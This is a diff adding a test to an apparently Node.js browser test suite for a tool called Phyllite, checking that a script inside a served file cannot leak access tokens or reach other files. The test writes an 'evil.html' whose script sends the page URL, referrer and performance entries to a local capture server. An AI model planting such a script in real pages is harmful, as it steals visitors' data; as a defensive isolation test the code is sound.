@@ -3,7 +3,9 @@
 // take long enough to be seen in the press: what is shown of it is written once in a second.
 import assert from "node:assert/strict";
 import { spawn } from "node:child_process";
+import { once } from "node:events";
 import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { after, before, test } from "node:test";
@@ -225,6 +227,27 @@ test("the verdict stands there, the report opens", async () => {
   assert.match(await report.title(), /slate.*Phyllite report/);
   assert.deepEqual(report.trouble, []);
   await report.close();
+});
+
+test("what a script in a file can carry away opens that one file", async () => {
+  const taken = [];
+  const thief = createServer((request, response) => response.end(String(taken.push(decodeURIComponent(request.url))))).listen(0, "127.0.0.1");
+  await once(thief, "listening");
+  const known = "JSON.stringify([location.href, document.referrer, name, history.length, performance.getEntries()])";
+  writeFileSync(join(folder, "evil.html"), `<script>location.href = "http://127.0.0.1:${thief.address().port}/?" + encodeURIComponent(${known})</script>`);
+  writeFileSync(join(folder, "other.html"), "x");
+  const origin = new URL(address).origin;
+  const token = new URL(address).searchParams.get("token");
+  const project = await (await fetch(`${origin}/api/project`, { headers: { "X-Phyllite-Token": token } })).json();
+  const tab = await browser.newPage();
+  await tab.goto(`${origin}/files/evil.html?token=${project.file_token}`).catch(() => {}); // it leads elsewhere at once
+  await within(10, () => taken.some((url) => url.includes("evil.html")));
+  assert.ok(!taken.join().includes(project.file_token) && !taken.join().includes(token), taken.join());
+  const key = taken.join().match(/key=\w+/)[0];
+  const status = async (path) => (await fetch(`${origin}${path}?${key}`)).status;
+  assert.deepEqual([await status("/files/evil.html"), await status("/files/other.html"), await status("/files/slate.csv"), await status("/api/project")], [200, 403, 403, 403]);
+  await tab.close();
+  thief.close();
 });
 
 test("a test on the calibrated rock is chosen, seen and saved as a recipe, run", async () => {
